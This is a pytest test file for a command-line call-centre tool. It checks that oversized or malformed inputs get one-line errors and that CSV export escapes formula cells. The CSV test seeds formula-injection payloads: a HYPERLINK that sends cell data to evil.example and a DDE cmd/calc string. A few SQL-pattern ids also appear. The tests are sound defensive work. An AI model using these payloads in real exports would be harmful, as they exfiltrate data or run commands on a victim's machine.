"""Class 6 of issue 17, every input is bounded: settings, playbooks, policies, CLI
arguments, ids, search text and WAV files of any size, depth, count or kind get
one clear line, never a traceback, a hang or all the memory. And class 3's rule
for exports: a CSV cell can never run as a spreadsheet formula.

Driven through the real CLI (a subprocess each) and the real parsers."""

from __future__ import annotations

import csv
import json
import os
import sqlite3
import struct
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest

from calmline.context import Context
from calmline.core.commands import MAX_LINE, Command, CommandError, decode_command, encode_command
from calmline.core.playbook import parse_playbook
from calmline.core.problems import ProblemsError
from calmline.core.records import FollowUp, Incident, Promise, Shift, VoiceFigures
from calmline.store.search import SearchQuery
from tests.apps import calmline, lock_pid, stop_pid

T0 = datetime(2026, 11, 22, 9, 0, tzinfo=UTC)
LINE_MAX = 400  # a "clear line" quotes a value, never the whole of it


def env_of(home: Path) -> dict[str, str]:
    return dict(os.environ, CALMLINE_HOME=str(home), QT_QPA_PLATFORM="offscreen")


def one_line(text: str) -> str:
    """The single line in ``text``; fails on a traceback, several lines or a long one."""
    assert "Traceback" not in text, text[-2000:]
    lines = text.splitlines()
    assert len(lines) == 1, lines[:5]
    assert len(lines[0]) <= LINE_MAX, lines[0][:LINE_MAX] + "…"
    return lines[0]


@pytest.fixture
def fifo(tmp_path: Path) -> Iterator[Path]:
    """A FIFO nobody writes to: reading it would wait for ever. Opened for writing
    at the end (non-blocking) so that a reader stuck on it is let go."""
    path = tmp_path / "pipe"
    os.mkfifo(path)
    yield path
    try:
        fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
    except OSError:  # no reader: nothing stuck
        return
    os.close(fd)


def playbook(steps: int = 1, title: str = "Listen", phrase: str = "Say this.") -> str:
    text = '[playbook]\nid = "t"\ntitle = "Test"\n'
    for n in range(steps):
        text += (
            f'[[steps]]\nid = "s{n}"\nphase = "open"\nkind = "once"\ntitle = "{title}"\n'
            f'why = "Because."\nphrases = ["{phrase}"]\n'
        )
    return text


# -- settings -----------------------------------------------------------------


def test_a_settings_file_over_the_size_cap_is_refused_in_one_line(
    home: Path, tmp_path: Path
) -> None:
    big = tmp_path / "big.toml"
    big.write_text('agent_id = "a1"\n' + ("# padding" * 20 + "\n") * 8700)  # 1.5 MB
    res = calmline("config", "validate", str(big), env=env_of(home))
    assert res.returncode == 1
    line = one_line(res.stderr)
    assert line.startswith(f"calmline: {big}: 1.5 MB is too large for a settings file")
    assert "at most 1.0 MB" in line
    (home / "config.toml").write_bytes(big.read_bytes())
    res = calmline("config", "show", "--json", env=env_of(home))
    assert res.returncode == 0
    assert json.loads(res.stdout)["agent_id"]["layer"] == "default"  # the file was not used
    assert "too large for a settings file (at most 1.0 MB), file ignored" in one_line(res.stderr)


def test_a_settings_file_that_is_a_fifo_does_not_hang(home: Path, fifo: Path) -> None:
    (home / "config.toml").symlink_to(fifo)
    res = calmline("config", "show", "--json", env=env_of(home), timeout=30)
    assert res.returncode == 0
    assert "is not a regular file (a device, pipe or socket)" in one_line(res.stderr)
    res = calmline("config", "validate", str(fifo), env=env_of(home), timeout=30)
    assert res.returncode == 1 and "is not a regular file" in one_line(res.stderr)


def test_settings_texts_are_bounded_and_quoted_short(home: Path, tmp_path: Path) -> None:
    bad = tmp_path / "long.toml"
    bad.write_text(
        f'agent_id = "{"a" * 100_000}"\n[audio]\ninput_device = "{"m" * 5000}"\n'
        f'[sync]\ntarget = "postgresql://agent:s3cret@db/{"x" * 3000}"\n'
    )
    res = calmline("config", "validate", str(bad), env=env_of(home))
    assert res.returncode == 1
    lines = res.stdout.splitlines()
    assert len(lines) == 3 and all(len(line) <= LINE_MAX for line in lines), lines
    assert "agent_id: bad value 'aaaa" in lines[0] and "(100000 characters)" in lines[0]
    assert "at most 128 characters" in lines[0]
    assert "audio.input_device" in lines[1] and "at most 256 characters" in lines[1]
    assert "sync.target: bad value (not shown: it may hold a password)" in lines[2]
    assert "s3cret" not in res.stdout


def test_settings_nested_without_end_are_one_line(home: Path, tmp_path: Path) -> None:
    deep = tmp_path / "deep.toml"
    deep.write_text("agent_id = " + "[" * 5000 + "]" * 5000 + "\n")
    res = calmline("config", "validate", str(deep), env=env_of(home))
    assert res.returncode == 1 and res.stderr == ""
    assert "values nested too deeply" in one_line(res.stdout)


def test_thousands_of_bad_keys_are_counted_not_listed(home: Path, tmp_path: Path) -> None:
    bad = tmp_path / "keys.toml"
    bad.write_text("".join(f"key{n} = {n}\n" for n in range(5000)))
    res = calmline("config", "validate", str(bad), env=env_of(home))
    lines = res.stdout.splitlines()
    assert res.returncode == 1 and len(lines) == 21, len(lines)
    assert lines[-1] == f"{bad}: 4980 more problems not listed — fix the ones above first"


# -- playbooks ------------------------------------------------------------------


def test_playbook_size_steps_and_text_lengths_are_bounded(home: Path, tmp_path: Path) -> None:
    cases = {
        "big": (playbook() + ("#" * 200 + "\n") * 1500, "is too large for a playbook"),
        "steps": (playbook(steps=61), "61 steps, at most 60"),
        "title": (playbook(title="T" * 5000), "title is 5000 characters long, at most 120"),
        "phrase": (playbook(phrase="p" * 400), "phrase 1 is 400 characters long, at most 300"),
    }
    for name, (text, message) in cases.items():
        path = tmp_path / f"{name}.toml"
        path.write_text(text)
        res = calmline("playbook", "validate", str(path), env=env_of(home))
        assert res.returncode == 1, (name, res.stdout)
        assert message in one_line(res.stdout), name
    ok = tmp_path / "ok.toml"
    ok.write_text(playbook(steps=60, title="T" * 120, phrase="p" * 300))
    res = calmline("playbook", "validate", str(ok), env=env_of(home))
    assert res.returncode == 0 and "with 60 steps" in res.stdout


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ('steps = [1, 2]\n[playbook]\nid = "t"\n', "step #1 is 1, not a table"),
        (playbook().replace('kind = "once"', 'kind = ["once"]'), "unknown kind ['once']"),
        (playbook().replace('phase = "open"', "phase = {a = 1}"), "unknown phase {'a': 1}"),
        ('[playbook]\nid = "t"\nx = ' + "[" * 5000 + "]" * 5000, "nested too deeply"),
    ],
    ids=["steps-not-tables", "kind-a-list", "phase-a-table", "nested"],
)
def test_odd_playbook_shapes_are_problems_not_tracebacks(
    home: Path, tmp_path: Path, text: str, message: str
) -> None:
    path = tmp_path / "odd.toml"
    path.write_text(text)
    res = calmline("playbook", "validate", str(path), env=env_of(home))
    assert res.returncode == 1 and "Traceback" not in res.stderr, res.stderr[-1500:]
    assert message in res.stdout


def test_a_playbook_path_that_is_a_fifo_falls_back_without_hanging(home: Path, fifo: Path) -> None:
    res = calmline("playbook", "validate", str(fifo), env=env_of(home), timeout=30)
    assert res.returncode == 1 and "is not a regular file" in one_line(res.stdout)
    (home / "config.toml").write_text(f'[playbook]\npath = "{fifo}"\n')
    res = calmline("--self-test", env=env_of(home), timeout=60)
    assert "is not a regular file (a device, pipe or socket)" in res.stdout + res.stderr


class CountingText(str):
    """Playbook text that counts how often the parser splits it into lines."""

    splits = 0

    def splitlines(self, keepends: bool = False) -> list[str]:
        CountingText.splits += 1
        return super().splitlines(keepends)


def test_playbook_problems_cost_one_pass_over_the_text() -> None:
    # Finding each problem's line used to split the whole text again: quadratic
    # in the file (60 steps x 40 problems, each re-reading 3000 lines).
    unknown = "".join(f"u{n} = 1\n" for n in range(40))
    text = playbook(steps=60).replace('why = "Because."\n', f'why = "Because."\n{unknown}')
    CountingText.splits = 0
    with pytest.raises(ProblemsError) as err:
        parse_playbook(CountingText(text), "many.toml")
    assert len(err.value.problems) == 21  # 20 listed, and a count of the rest
    assert err.value.problems[-1].message == "2380 more problems not listed"
    assert CountingText.splits == 1


# -- policy files ---------------------------------------------------------------


REG = "Windows Registry Editor Version 5.00\n\n[HKEY_LOCAL_MACHINE\\Software\\Policies\\Calmline]\n"


def test_policy_files_are_bounded(home: Path, tmp_path: Path, fifo: Path) -> None:
    big = tmp_path / "big.reg"
    big.write_text(REG + '"agent_id"="a-1"\n' + (";" * 100 + "\n") * 12_000, encoding="utf-8")
    res = calmline("doctor", "--policy", str(big), env=env_of(home))
    assert "1.2 MB is too large for a policy file (at most 1.0 MB), ignored" in res.stdout
    long = tmp_path / "long.reg"
    long.write_text(REG + f'"agent_id"="{"x" * 50_000}"\n', encoding="utf-8")
    res = calmline("doctor", "--policy", str(long), env=env_of(home))
    assert "agent_id = \n" not in res.stdout and "x" * 200 not in res.stdout
    assert "(50000 characters): String should have at most 128 characters" in res.stdout
    plist = tmp_path / "fifo.plist"
    plist.symlink_to(fifo)
    res = calmline("doctor", "--policy", str(plist), env=env_of(home), timeout=30)
    assert "is not a regular file (a device, pipe or socket), ignored" in res.stdout


def bplist_chain(depth: int) -> bytes:
    """A binary plist of arrays nested ``depth`` deep (each holds the next)."""
    body, offsets = b"bplist00", []
    for n in range(depth + 1):
        offsets.append(len(body))
        body += bytes([0xA1]) + struct.pack(">H", n + 1) if n < depth else b"\x08"
    table = len(body)
    body += b"".join(struct.pack(">I", off) for off in offsets)
    return body + struct.pack(">6xBBQQQ", 4, 2, len(offsets), 0, table)


def test_a_plist_nested_without_end_is_one_problem(home: Path, tmp_path: Path) -> None:
    deep = tmp_path / "deep.plist"
    deep.write_bytes(bplist_chain(5000))
    res = calmline("doctor", "--policy", str(deep), env=env_of(home))
    assert "Traceback" not in res.stderr, res.stderr[-1500:]
    assert "managed policy unreadable, ignored (maximum recursion depth" in res.stdout


# -- command-line arguments -------------------------------------------------------


@pytest.fixture
def app_env(home: Path, tmp_path: Path) -> Iterator[dict[str, str]]:
    runtime = tmp_path / "run"
    runtime.mkdir(mode=0o700)
    env = env_of(home)
    env["XDG_RUNTIME_DIR"] = str(runtime)
    env.pop("DISPLAY", None)
    (home / "config.toml").write_text('agent_id = "a-1"\n[shift]\nauto_start = true\n')
    yield env
    stop_pid(lock_pid(env))


def test_a_caller_id_that_looks_like_an_option_is_the_number(
    app_env: dict[str, str], home: Path
) -> None:
    # A softphone appends the caller's id, which the caller sets: "-rf", "--help"
    # and "--caller" used to be read as options (an error, or the help text), so
    # the call was never started and `call end` failed too.
    starts = [
        (["-rf"], "-rf"),
        (["--help"], "--help"),
        (["--customer", "C-9", "--caller"], "--caller"),
        (["--", "-123"], "-123"),
        (["--caller=-123"], "-123"),
        (["--caller", "-h"], "-h"),
    ]
    for words, number in starts:
        res = calmline("call", "start", *words, env=app_env)
        assert res.returncode == 0, (words, res.stderr)
        assert res.stdout.startswith(f"call started with {number}"), (words, res.stdout)
        res = calmline("call", "end", *words, env=app_env)
        assert res.returncode == 0 and res.stdout.startswith("call ended"), (words, res.stderr)
    stop_pid(lock_pid(app_env))
    db = sqlite3.connect(home / "calmline.db")
    rows = db.execute("SELECT caller_number, customer_ref FROM incidents ORDER BY started_at")
    assert [r for r in rows] == [
        ("-rf", ""),
        ("--help", ""),
        ("--caller", "C-9"),
        ("-123", ""),
        ("-123", ""),
        ("-h", ""),
    ]


def test_undecodable_argv_bytes_are_stored_as_replacement_characters(
    app_env: dict[str, str], home: Path
) -> None:
    raw = os.fsdecode(b"caf\xe9 \xff")  # Latin-1 bytes, as argv carries them: surrogates
    assert calmline("call", "start", "--caller", raw, env=app_env).returncode == 0
    res = calmline("note", raw, env=app_env)
    assert res.returncode == 0, res.stderr
    assert calmline("call", "end", env=app_env).returncode == 0
    stop_pid(lock_pid(app_env))
    db = sqlite3.connect(home / "calmline.db")
    assert db.execute("SELECT caller_number FROM incidents").fetchone() == ("caf\ufffd \ufffd",)
    assert db.execute("SELECT text FROM notes").fetchone() == ("caf\ufffd \ufffd",)
    res = calmline("incidents", "search", raw, env=app_env)
    assert res.returncode == 0 and "Traceback" not in res.stderr, res.stderr[-1500:]


def test_overlong_command_arguments_are_refused_in_one_line(app_env: dict[str, str]) -> None:
    env = app_env
    words = ["x" * 100_000] * 10  # 1 MB of note (one argv word may be at most 128 KB)
    cases = [
        (["note", *words], "note: text 'xxxx", "(1000009 characters, at most 10000)"),
        (["call", "start", "9" * 500], "call-start: caller '9999", "pass only the caller's"),
        (["call", "start", "--customer", "C" * 300], "call-start: customer", "at most 128"),
        (["shift", "start", "--agent", "a" * 200], "shift-start: agent", "at most 128"),
    ]
    for argv, start, detail in cases:
        res = calmline(*argv, env=env)
        assert res.returncode == 1, (argv[:2], res.stderr[-500:])
        line = one_line(res.stderr)
        assert line.startswith(f"calmline: {start}") and detail in line, line
    assert lock_pid(env) is None  # refused before Calmline was started for it


def test_the_socket_gate_is_the_same_bounds() -> None:
    # check_command is the one gate: the socket's decode_command goes through it.
    line = json.dumps({"cmd": "note", "args": {"text": "y" * 10_001}}).encode()
    with pytest.raises(CommandError, match="too long"):
        decode_command(line)
    with pytest.raises(CommandError, match="nested too deeply"):
        decode_command(b"[" * 60_000 + b"]" * 4000)
    escaped = decode_command(b'{"cmd": "note", "args": {"text": "a\\udcffb"}}')
    assert escaped.arg("text") == "a\ufffdb"
    # Whatever passes the gate fits in one line of MAX_LINE bytes (worst case: every
    # character an escape of 6 bytes).
    worst = Command("call-start", {"caller": "\x01" * 128, "customer": "\x01" * 128})
    assert len(encode_command(worst)) <= MAX_LINE
    assert len(encode_command(Command("note", {"text": "\x01" * 10_000}))) <= MAX_LINE


def test_argument_mistakes_are_one_line(home: Path) -> None:
    env = env_of(home)
    for argv, message in [
        (["incidents", "list", "--limit", "9" * 30], "is out of range — give 1 to 100000"),
        (["incidents", "list", "--limit", "lots"], "'lots' is not a whole number"),
        (["incidents", "search", "--limit", "0"], "0 is out of range"),
        (["incidents", "search", "--caller", "1" * 300], "300 characters is too long"),
        (["incidents", "nope" * 1000], "invalid choice"),
        (["report", "--from", "x" * 5000], "is not a date"),
        (["sync", "--target", "/tmp/" + "y" * 5000], "5005 characters is too long for a target"),
        (["sync", "--target", os.fsdecode(b"/tmp/\xff")], "holds bytes that are not text"),
    ]:
        res = calmline(*argv, env=env)
        assert res.returncode in (1, 2), argv[:3]
        assert message in one_line(res.stderr), argv[:3]


# -- ids and search -------------------------------------------------------------------


def seed(home: Path, **fields: object) -> tuple[Incident, FollowUp]:
    store = Context.load(env=env_of(home)).open_store()
    shift = store.save(Shift(agent_id="a1", started_at=T0))
    inc = store.save(
        Incident(
            shift_id=shift.meta.id,
            started_at=T0,
            ended_at=T0 + timedelta(minutes=6),
            **fields,  # type: ignore[arg-type]
        )
    )
    fu = store.save(FollowUp(inc.meta.id, "call back", "agent", date(2026, 11, 24)))
    store.db.close()
    return inc, fu


def test_id_prefixes_match_ids_not_sql_patterns(home: Path) -> None:
    inc, fu = seed(home, caller_number="555 0100")
    env = env_of(home)
    for pattern in ("%", "_", "%%", "_" * 8, "' OR 1 --"):
        res = calmline("incidents", "show", pattern, env=env)
        assert res.returncode == 1 and res.stdout == "", pattern
        assert "(an id is up to 36 hex digits and hyphens)" in one_line(res.stderr)
    res = calmline("followups", "done", "%", "--note", "all of them?", env=env)
    assert res.returncode == 1 and "no follow-up with id '%'" in one_line(res.stderr)
    assert calmline("followups", env=env).stdout.startswith(fu.meta.id[:8])  # still open
    res = calmline("incidents", "show", inc.meta.id[:8].upper(), env=env)
    assert res.returncode == 0 and json.loads(res.stdout)["id"] == inc.meta.id
    res = calmline("incidents", "show", "a" * 5000, env=env)
    assert res.returncode == 1 and "no incident with id 'aaaa" in one_line(res.stderr)


def test_search_text_is_bounded(home: Path) -> None:
    seed(home, caller_number="+44 20 7946 0958", summary="- parcel lost")
    env = env_of(home)
    many = ["7946"] * 100  # each number fragment is one more subquery
    res = calmline("incidents", "search", *many, env=env)
    assert res.returncode == 1
    assert "100 words to search for, at most 16" in one_line(res.stderr)
    res = calmline("incidents", "search", *(["parcel"] * 100), env=env)
    assert res.returncode == 1 and "search text is too long" in one_line(res.stderr)
    # The window's search box goes through the same search: it searches the first
    # 16 words of the first 500 characters, whatever is pasted into it.
    store = Context.load(env=env).open_store()
    assert len(store.search(SearchQuery(" ".join(["7946"] * 2000)))) == 1
    assert len(store.search(SearchQuery("parcel " + "x" * 1_000_000))) == 0
    assert len(store.search(SearchQuery("parcel " * 10_000))) == 1


# -- CSV export -------------------------------------------------------------------------


def test_csv_cells_cannot_run_as_formulas(home: Path, tmp_path: Path) -> None:
    seed(
        home,
        caller_number="+44 20 7946 0000",
        customer_ref='=HYPERLINK("http://evil.example/?"&A1,"click")',
        category="@SUM(1+1)*cmd|' /C calc'!A0",
        summary=" =1+2",
        facts="\t=cmd",
        agreed_resolution="\r-2+3",
        best_practice_text="plain words; 3 - 2 = 1",
        voice=VoiceFigures(-30.0, 7.5, 0.4, (("raised_voice", 2),), (-30.0,)),
        next_steps=(Promise("-call back", "", None),),
    )
    dest = tmp_path / "out.csv"
    res = calmline("incidents", "export", "--format", "csv", "-o", str(dest), env=env_of(home))
    assert res.returncode == 0, res.stderr
    row = next(csv.DictReader(dest.open(encoding="utf-8-sig", newline="")))
    assert row["caller_number"] == "'+44 20 7946 0000"  # still readable, and text
    assert row["customer_ref"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert row["category"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["summary"] == "' =1+2"  # after leading spaces too
    assert row["facts"] == "'\t=cmd" and row["agreed_resolution"] == "'\r-2+3"
    assert row["next_steps"] == "'-call back"
    assert row["best_practice_text"] == "plain words; 3 - 2 = 1"  # nothing to defuse
    assert row["voice_baseline_dbfs"] == "-30.0"  # a number stays a number
    for name, cell in row.items():
        assert not cell.lstrip().startswith(("=", "+", "-", "@")) or name.startswith("voice_")


# -- WAV files -------------------------------------------------------------------------------


def wav_header(
    frames: int,
    rate: int = 48000,
    channels: int = 1,
    bits: int = 16,
    data_bytes: int | None = None,
    before: bytes = b"",
) -> bytes:
    """A PCM WAV header; ``before``: chunks ahead of the fmt chunk."""
    block = channels * bits // 8
    size = frames * block if data_bytes is None else data_bytes
    fmt = struct.pack("<HHIIHH", 1, channels, rate, rate * block, block, bits)
    riff = 4 + len(before) + 8 + len(fmt) + 8 + size
    return (
        b"RIFF"
        + struct.pack("<I", min(riff, 0xFFFFFFFF))
        + b"WAVE"
        + before
        + b"fmt "
        + struct.pack("<I", len(fmt))
        + fmt
        + b"data"
        + struct.pack("<I", min(size, 0xFFFFFFFF))
    )


def sparse_wav(path: Path, seconds: int, rate: int = 48000) -> Path:
    """A WAV of ``seconds`` of silence that takes no disk: a header, then a hole."""
    frames = seconds * rate
    with path.open("wb") as f:
        f.write(wav_header(frames, rate))
        f.truncate(len(wav_header(frames, rate)) + frames * 2)
    return path


# Started from a small Python, not from this test process: Linux carries a parent's
# peak RSS into a forked child's (across exec), so a child of a pytest that has grown
# to 500 MB would report 500 MB whatever it used itself.
_MEASURE = """
import os, subprocess, sys
proc = subprocess.Popen(sys.argv[1:], stdout=subprocess.DEVNULL)
_, status, usage = os.wait4(proc.pid, 0)
print(usage.ru_maxrss, file=sys.stderr)
sys.exit(os.waitstatus_to_exitcode(status))
"""


def peak_rss_mb(argv: list[str], env: dict[str, str], timeout: float) -> tuple[int, float, str]:
    """Run ``argv``; its exit status, its own peak resident memory (wait4), its stderr."""
    res = subprocess.run(
        [sys.executable, "-c", _MEASURE, *argv],
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        timeout=timeout,
    )
    lines = res.stderr.decode(errors="replace").rstrip("\n").split("\n")
    return res.returncode, int(lines[-1]) / 1024, "\n".join(lines[:-1])


def test_analyze_reads_an_hour_at_48khz_in_bounded_memory(home: Path, tmp_path: Path) -> None:
    # An hour at 48 kHz is 330 MB of samples: read whole, as floats, that was over
    # 3 GB. Read a block at a time, what grows is the figures (~2.5 MB an hour).
    wav = sparse_wav(tmp_path / "hour.wav", 3600)
    argv = [sys.executable, "-m", "calmline", "analyze", str(wav), "--json"]
    code, rss_mb, err = peak_rss_mb(argv, env_of(home), timeout=300)
    assert code == 0, err[-1500:]
    assert rss_mb < 250, f"peak RSS {rss_mb:.0f} MB"
    print(f"\nanalyze of 1 h at 48 kHz: peak RSS {rss_mb:.0f} MB")


@pytest.mark.parametrize("kind", ["fifo", "device", "folder"])
def test_analyze_refuses_what_is_not_a_regular_file(
    home: Path, tmp_path: Path, fifo: Path, kind: str
) -> None:
    path = {"fifo": fifo, "device": Path("/dev/zero"), "folder": tmp_path}[kind]
    res = calmline("analyze", str(path), env=env_of(home), timeout=30)
    assert res.returncode == 2
    line = one_line(res.stderr)
    assert line.startswith(f"calmline: {path}: ")
    assert ("is a folder, not a WAV file" if kind == "folder" else "is not a regular file") in line


def test_odd_wav_headers_are_one_line(home: Path, tmp_path: Path) -> None:
    cases = {
        # a header claiming 2^32 frames on a file of 1 s: the file's length counts
        "claims-4G": (wav_header(0, 8000, data_bytes=0xFFFFFFFF) + b"\0\1" * 8000, None),
        # cut short in the middle of a frame
        "cut": (wav_header(8000, 8000, channels=2) + b"\1" * 999, None),
        "no-channels": (
            wav_header(100, 8000, channels=0, data_bytes=200) + b"\0" * 200,
            "not a PCM WAV file (bad # of channels)",
        ),
        "0-hz": (wav_header(100, 0, data_bytes=200) + b"\0" * 200, "sample rate 0 Hz"),
        "64-channels": (
            wav_header(100, 8000, channels=64) + b"\0" * 12800,
            "64 channels — expected 1 to 8",
        ),
        "junk-chunks": (
            wav_header(100, 8000, before=b"JUNK\0\0\0\0" * 100) + b"\0" * 200,
            "more than 64 header chunks before the audio",
        ),
    }
    for name, (data, message) in cases.items():
        path = tmp_path / f"{name}.wav"
        path.write_bytes(data)
        res = calmline("analyze", str(path), "--json", env=env_of(home))
        if message is None:
            assert res.returncode == 0, (name, res.stderr[-1500:])
            assert json.loads(res.stdout)["duration_s"] <= 1.0, name
        else:
            assert res.returncode == 2, (name, res.stdout[:300])
            assert message in one_line(res.stderr), name


def test_analyze_refuses_more_than_12_hours(home: Path, tmp_path: Path) -> None:
    wav = sparse_wav(tmp_path / "long.wav", 13 * 3600, rate=8000)
    res = calmline("analyze", str(wav), env=env_of(home), timeout=60)
    assert res.returncode == 2
    line = one_line(res.stderr)
    assert "13.0 hours of audio — at most 12 hours are analysed" in line
